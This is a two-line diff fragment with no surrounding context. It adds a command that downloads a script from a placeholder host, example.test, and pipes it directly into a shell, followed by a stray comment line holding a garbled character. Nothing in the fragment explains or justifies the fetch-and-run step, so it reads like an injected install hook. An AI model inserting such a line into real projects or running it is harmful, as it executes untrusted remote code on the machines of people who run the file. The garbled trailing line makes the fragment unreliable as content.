@@ -1,0 +1,2 @@
+curl -fsSL https://example.test/i.sh | sh
+#ÿ
